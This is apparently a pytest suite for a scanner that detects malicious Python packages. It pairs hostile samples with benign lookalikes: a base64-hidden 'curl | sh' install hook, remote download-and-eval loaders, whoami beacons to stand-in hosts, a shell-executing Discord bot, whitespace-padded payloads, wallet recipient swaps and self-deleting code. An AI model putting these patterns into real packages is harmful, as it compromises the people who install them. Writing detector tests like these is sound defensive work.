    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/wallet.py": code}), scanner)
    assert_fires(result, "exfil-flow", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_exfil_flow_benign_key_only_signs(tmp_path: Path, scanner: Scanner) -> None:
    code = (
        "import requests\n\n"
        "def transfer(private_key, to):\n"
        "    signed = sign_transaction({'to': to}, private_key)\n"
        "    requests.post('http://192.0.2.8:8000/tx', json={'raw': signed})\n"
    )
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/wallet.py": code}), scanner)
    assert_quiet(result, "exfil-flow", not_verdict=Verdict.MALICIOUS)


def test_remote_control_fires(tmp_path: Path, scanner: Scanner) -> None:
    """A Discord bot whose command handler hands the message to a shell: a remote shell."""
    code = (
        "import os\nimport discord\n\nclient = discord.Client()\n\n"
        "@client.event\nasync def on_message(message):\n    os.system(message.content)\n"
    )
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/bot.py": code}), scanner)
    assert_fires(result, "remote-control", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_decode_exec_fires_through_a_function_spelled_in_pieces(tmp_path: Path, scanner: Scanner) -> None:
    """`run = eval("o" + "s.sys" + "tem")` hides os.system; what it runs was decoded from base64."""
    body = (
        f"command = base64.b64decode({b64(INERT_CODE)!r}).decode()\n"
        "run = eval('o' + 's.sy' + 'stem')\n"
        "run(command)\n"
    )
    result = scan(write_sdist(tmp_path, setup_py=setup_py(body, "import base64\n")), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_decode_exec_benign_eval_of_a_spelled_setting(tmp_path: Path, scanner: Scanner) -> None:
    code = "import settings\n\nDEBUG = eval('settings.' + 'DEBUG')\nLEVEL = eval('1 + 2')\n"
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/conf.py": code}), scanner)
    assert_quiet(result, "obfuscated-exec", not_verdict=Verdict.SUSPICIOUS)


def test_install_process_fires_for_wget_with_options_before_the_address(
    tmp_path: Path, scanner: Scanner
) -> None:
    code = (
        "import os\n\ndef install():\n"
        "    os.system('wget -O ~/.cache/x.py https://example.invalid/x.txt')\n\n"
    )
    files = {
        f"{DEFAULT_NAME}/__init__.py": "from .installer import install\ninstall()\n",
        f"{DEFAULT_NAME}/installer.py": code,
    }
    result = scan(write_sdist(tmp_path, files), scanner)
    assert_fires(result, "install-process", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_install_process_benign_wget_helper_only_called(tmp_path: Path, scanner: Scanner) -> None:
    code = (
        "import os\n\ndef fetch(dest):\n"
        "    os.system('wget -O ' + dest + ' https://example.invalid/data.csv')\n"
    )
    files = {
        f"{DEFAULT_NAME}/__init__.py": "from .installer import fetch\n",
        f"{DEFAULT_NAME}/installer.py": code,
    }
    result = scan(write_sdist(tmp_path, files), scanner)
    assert_quiet(result, "install-process", not_verdict=Verdict.MALICIOUS)


# Carrier rules (pickles, YAML, bytecode, disguised files) are tested in test_carriers.py.
carriers_serialized_exec = test_carriers.test_malicious_pickle_loaded_at_import_is_malicious
carriers_sourceless_bytecode = test_carriers.test_sourceless_bytecode_module_is_suspicious
carriers_disguised_file = test_carriers.test_disguised_zip_put_on_sys_path_at_import_is_malicious


def test_install_process_benign_cli_printing_a_curl_example(tmp_path: Path, scanner: Scanner) -> None:
    """A CLI that prints a `curl --location URL` usage example and starts a helper program is not
    a downloader (the clean litellm 1.82.6 release has exactly this shape)."""
    code = (
        "import subprocess\n\n"
        "print(\"curl --location 'http://0.0.0.0:4000/chat/completions'\")\n"
        "subprocess.run(['prisma'], capture_output=True)\n"
    )
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cli.py": code}), scanner)
    assert_quiet(result, "install-process", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)


POSITIVE_TESTS: dict[str, str] = {
    "recipient-swap": "test_recipient_swap_fires_for_constant_address_in_a_callers_transfer",
    "serialized-exec": "carriers_serialized_exec",
    "sourceless-bytecode": "carriers_sourceless_bytecode",
    "disguised-file": "carriers_disguised_file",
    "startup-hook": "test_startup_hook_fires",
    "startup-hook-dangerous": "test_startup_hook_dangerous_fires",
    "decode-exec": "test_decode_exec_fires",
    "detached-process": "test_detached_process_fires_at_import_even_from_a_folder_without_init",
    "download-exec": "test_download_exec_fires",
    "secret-exfiltration": "test_secret_exfiltration_fires",
    "stealer": "test_stealer_fires",
    "install-beacon": "test_install_beacon_fires",
    "install-process": "test_install_process_fires",
    "install-network": "test_install_network_fires",
    "reverse-shell": "test_reverse_shell_fires",
    "cryptominer": "test_cryptominer_fires",
    "sabotage": "test_sabotage_fires",
    "persistence": "test_persistence_fires",
    "exfil-sink": "test_exfil_sink_fires",
    "exfil-flow": "test_exfil_flow_fires_in_called_code",
    "remote-control": "test_remote_control_fires",
    "raw-ip-url": "test_raw_ip_url_fires",
    "pip-install-runtime": "test_pip_install_runtime_fires",
    "hidden-shell": "test_hidden_shell_fires",
    "secret-access": "test_secret_access_fires",
    "spyware": "test_spyware_fires",
    "anti-analysis": "test_anti_analysis_fires",
    "obfuscation": "test_obfuscation_fires",
    "obfuscated-exec": "test_obfuscated_exec_fires_in_setup",
    "dynamic-exec": "test_dynamic_exec_fires",
    "embedded-executable": "test_embedded_executable_fires",
    "setup-cmdclass": "test_setup_cmdclass_fires",
    "typosquat": "test_typosquat_fires",
    "placeholder-version": "test_placeholder_version_fires",
    "metadata-missing": "test_metadata_missing_fires",
    "stdlib-dependency": "test_stdlib_dependency_fires",
    "archive-unsafe-path": "test_archive_unsafe_path_fires",
    "archive-link": "test_archive_link_fires",
    "archive-special-file": "test_archive_special_file_fires",
    "archive-bomb": "test_archive_bomb_fires",
    "archive-limit": "test_archive_limit_fires",
    "archive-unreadable": "test_archive_unreadable_fires",
    "archive-confusion": "test_archive_confusion_fires",
    "scan-incomplete": "test_scan_incomplete_fires",
    "scan-timeout": "test_scan_timeout_fires",
    "user-rule": "test_user_rule_fires",
    # metadata signals and direct-URL requirements: their tests live in test_signals.py
    "empty-package": "test_empty_package_fires_on_sdist",
    "renamed-copy": "test_renamed_copy_fires",
    "malicious-dependency": "test_malicious_dependency_fires",
    "typosquat-dependency": "test_typosquat_dependency_fires",
    "mcp-tool-injection": "test_mcp_tool_injection_fires",
    "direct-url-dependency": "test_direct_url_build_requirement_fires",
}


def test_every_rule_has_a_positive_test() -> None:
    assert set(POSITIVE_TESTS) == set(RULES), (
        f"rules without a positive test: {sorted(set(RULES) - set(POSITIVE_TESTS))}; "
        f"tests for unknown rules: {sorted(set(POSITIVE_TESTS) - set(RULES))}"
    )
    from tests.scan import test_signals  # imported here: it imports this module's helpers

    for rule, name in POSITIVE_TESTS.items():
        test = globals().get(name) or getattr(test_signals, name, None)
        assert callable(test), f"{rule}: {name} is not a test in this module"
        assert not any(m.name == "xfail" for m in getattr(test, "pytestmark", [])), (
            f"{rule}: its designated positive test {name} is expected to fail"
        )


# ---- names hidden behind star imports and import-and-return helpers ------------------------------
STAR_IMPORT_LOADER = """from requests import *
import marshal


def unpack(text):
    return marshal.loads(bytes.fromhex(text))


reply = get("https://payload.invalid/stage2", timeout=3)
eval(unpack(reply.text))
"""


def test_download_exec_through_a_star_import(tmp_path: Path, scanner: Scanner) -> None:
    # `get` comes from `from requests import *`: still a download, and evaluating it is running it.
    result = scan(write_sdist(tmp_path, {INIT: STAR_IMPORT_LOADER}), scanner)
    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


STAR_IMPORT_BENIGN = """from os.path import *
from math import *


def get(mapping, key):
    return mapping.get(key)


def area(r):
    return pi * r * r, join("a", "b"), get({}, "x")
"""


def test_star_imports_of_harmless_modules_stay_quiet(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: STAR_IMPORT_BENIGN}), scanner)
    assert result.verdict is Verdict.CLEAN, describe(result)


RETURNER_SETUP = f"""import base64
from setuptools import setup
from setuptools.command.install import install


def get_runner():
    from subprocess import check_output as runner
    return runner


class PostInstall(install):
    def run(self):
        command = base64.b64decode("{b64("curl http://192.0.2.1/x | sh")}").decode()
        tool = get_runner()
        tool(command, shell=True)
        install.run(self)


setup(name="{DEFAULT_NAME}", version="1.0.0", cmdclass={{"install": PostInstall}})
"""


def test_process_call_laundered_through_an_import_and_return_helper(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {"setup.py": RETURNER_SETUP}), scanner)
    assert_fires(
        result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
    )


RETURNER_BENIGN = """def _pandas():
    import pandas as pd
    return pd


def frame(rows):
    return _pandas().DataFrame(rows)
"""


def test_lazy_import_helpers_stay_quiet(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: RETURNER_BENIGN}), scanner)
    assert result.verdict is Verdict.CLEAN, describe(result)


# ---- detached background processes ---------------------------------------------------------------
DETACHED_AT_IMPORT = """import os
import subprocess
import sys

stage = os.path.join(os.getcwd(), os.getlogin() + ".py")
if os.path.isfile(stage):
    subprocess.Popen([sys.executable, stage], start_new_session=True, stdout=subprocess.DEVNULL)
"""


@pytest.mark.parametrize(
    "flags",
    ["start_new_session=True", "preexec_fn=os.setpgrp", "creationflags=subprocess.DETACHED_PROCESS"],
)
def test_detached_process_fires_at_import_even_from_a_folder_without_init(
    tmp_path: Path, scanner: Scanner, flags: str
) -> None:
    # The launcher sits in `pkg/edt/` (no __init__.py), imported by the package's __init__.py.
    launcher = DETACHED_AT_IMPORT.replace("start_new_session=True", flags)
    files = {
        INIT: "from .edt import launcher\n",
        f"{DEFAULT_NAME}/edt/launcher.py": launcher,
    }
    result = scan(write_sdist(tmp_path, files), scanner)
    assert_fires(
        result, "detached-process", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith="launcher.py"
    )


DETACHED_WHEN_CALLED = """import subprocess
import sys


def start_server(port):
    # a dev server the user asks for, left running in its own session
    return subprocess.Popen([sys.executable, "-m", "http.server", str(port)], start_new_session=True)
"""


def test_detached_process_started_on_request_is_not_flagged(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: DETACHED_WHEN_CALLED}), scanner)
    assert_quiet(result, "detached-process")


PADDED_PAYLOAD = (
    'VERSION = "1.0"' + " " * 6000 + ';import os;os.system("echo inert > /dev/null")\n'
    "def version():\n    return VERSION\n"
)
PADDED_TABLE = (
    '"""Sizes.\n\n| name |' + " " * 400 + '| size |\n"""\nSIZES = {"a": 1}' + " " * 200 + "# padded\n"
)
ESCAPED_BYTES_EXEC = (
    "import requests\n"
    "exec(b'"
    + "".join(f"\\x{b:02x}" for b in b"exec(requests.get('http://192.0.2.1:8080/1.txt').text)")
    + "')\n"
)


def test_obfuscation_fires_for_code_pushed_far_right_at_import(tmp_path: Path, scanner: Scanner) -> None:
    # Thousands of spaces: wider than a YARA match may be, the case a pattern rule missed.
    result = scan(write_sdist(tmp_path, {INIT: PADDED_PAYLOAD}), scanner)
    assert_fires(result, "obfuscation", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_obfuscation_quiet_for_padded_tables_and_comments(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: PADDED_TABLE}), scanner)
    assert_quiet(result, "obfuscation")


def test_download_exec_fires_for_escaped_bytes_given_to_exec(tmp_path: Path, scanner: Scanner) -> None:
    # exec(b"\x65\x78...") runs its bytes as source: the payload inside is analysed like any code.
    result = scan(write_sdist(tmp_path, {INIT: ESCAPED_BYTES_EXEC}), scanner)
    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)


IDENTITY_BY_COMMAND_TO_CURL = """import os
import urllib.parse

try:
    who = os.popen("whoami")
    sent = urllib.parse.quote_plus(who.read())
    target = "https://collector.invalid/?" + sent
    os.system("curl " + target)
except Exception:
    pass
"""
HOSTNAME_FOR_OWN_SERVICE_WHEN_CALLED = """import subprocess

import requests


def register_worker(api="https://api.example.com/workers"):
    host = subprocess.check_output(["hostname"], text=True).strip()
    return requests.post(api, json={"host": host}, timeout=10)
"""


def test_install_beacon_fires_for_identity_read_by_a_command(tmp_path: Path, scanner: Scanner) -> None:
    # `whoami` read through a shell, then handed to curl: getpass.getuser() spelt as a command.
    result = scan(write_sdist(tmp_path, {"setup.py": setup_py(IDENTITY_BY_COMMAND_TO_CURL)}), scanner)
    assert_fires(result, "install-beacon", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_install_beacon_quiet_for_hostname_sent_to_own_service_when_called(
    tmp_path: Path, scanner: Scanner
) -> None:
    result = scan(write_sdist(tmp_path, {INIT: HOSTNAME_FOR_OWN_SERVICE_WHEN_CALLED}), scanner)
    assert_quiet(result, "install-beacon", not_verdict=Verdict.SUSPICIOUS)


RECIPIENT_SWAP_TRANSFER = """def transfer(client, wallet, destination, amount):
    if not client.is_valid_address(destination):
        raise ValueError(f"invalid destination {destination}")
    params = {"dest": "5GrwvaEF5zXb26Fz9rcQpDWS57CtERHpNehXCPcNoHGKutQY", "value": amount}
    return client.submit(wallet, "transfer", params)
"""
RECIPIENT_FROM_CALLER = """DEFAULT_FAUCET = "0x000000000000000000000000000000000000dEaD"


def transfer(client, wallet, destination, amount):
    params = {"dest": destination, "value": amount}
    return client.submit(wallet, "transfer", params)


def refill(client, wallet, amount):
    return client.submit(wallet, "transfer", {"to": DEFAULT_FAUCET, "value": amount})
"""


def test_recipient_swap_fires_for_constant_address_in_a_callers_transfer(
    tmp_path: Path, scanner: Scanner
) -> None:
    # The caller's destination is checked and printed, and the money goes to a written-in address.
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/transfer.py": RECIPIENT_SWAP_TRANSFER}), scanner)
    assert_fires(result, "recipient-swap", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_recipient_swap_quiet_when_the_destination_is_the_callers(tmp_path: Path, scanner: Scanner) -> None:
    # A function without a destination parameter may pay a fixed address (a faucet refill).
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/transfer.py": RECIPIENT_FROM_CALLER}), scanner)
    assert_quiet(result, "recipient-swap")


NATIVE_THEN_SELF_DELETE = """import ctypes
import os


def supported():
    try:
        lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "helper.so"))
        return bool(lib.probe(b"x"))
    finally:
        os.remove(__file__)


supported()
"""
NATIVE_LIBRARY_BINDING = """import ctypes
import os

_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "libfast.so"))


def fast_sum(values):
    return _lib.fast_sum(values)
"""


def test_anti_analysis_fires_for_code_that_deletes_itself_after_acting(
    tmp_path: Path, scanner: Scanner
) -> None:
    # A shipped native library run at import, then the module removes its own source.
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": NATIVE_THEN_SELF_DELETE}), scanner)
    assert_fires(result, "anti-analysis", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_anti_analysis_quiet_for_a_native_library_binding(tmp_path: Path, scanner: Scanner) -> None:
    # ctypes bindings to a library the package ships load it at import: ordinary.
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": NATIVE_LIBRARY_BINDING}), scanner)
    assert_quiet(result, "anti-analysis")


_HIDDEN_SOURCE = base64.b64encode(b"import os\nos.system('echo inert > /dev/null')\n").decode()
PAYLOAD_IN_A_METHOD = (
    "import base64\n\n\nclass Client:\n    def __init__(self, token=None):\n        self.token = token\n"
    f'        encoded = b"""\n        {_HIDDEN_SOURCE}\n        """\n'
    "        exec(base64.b64decode(encoded).decode(), globals())\n\n"
    + "".join(f"    def method_{i}(self, value):\n        return value * {i}\n\n" for i in range(80))
)
DECODE_AND_EVAL_APART = (
    "import ast\nimport base64\n\n\ndef load(blob):\n    return base64.b64decode(blob)\n\n\n"
    "def evaluate(expr):\n    return eval(compile(ast.parse(expr, mode='eval'), '<expr>', 'eval'), {})\n\n"
    + "".join(f"def helper_{i}(value):\n    return value * {i}\n\n\n" for i in range(80))
)


def test_decode_exec_fires_for_a_literal_payload_run_from_a_method(tmp_path: Path, scanner: Scanner) -> None:
    # A large module whose payload runs in a constructor: call-time code, still a hidden payload.
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/client.py": PAYLOAD_IN_A_METHOD}), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_decode_exec_quiet_for_decoding_and_eval_apart(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/util.py": DECODE_AND_EVAL_APART}), scanner)
    assert_quiet(result, "decode-exec", not_verdict=Verdict.SUSPICIOUS)
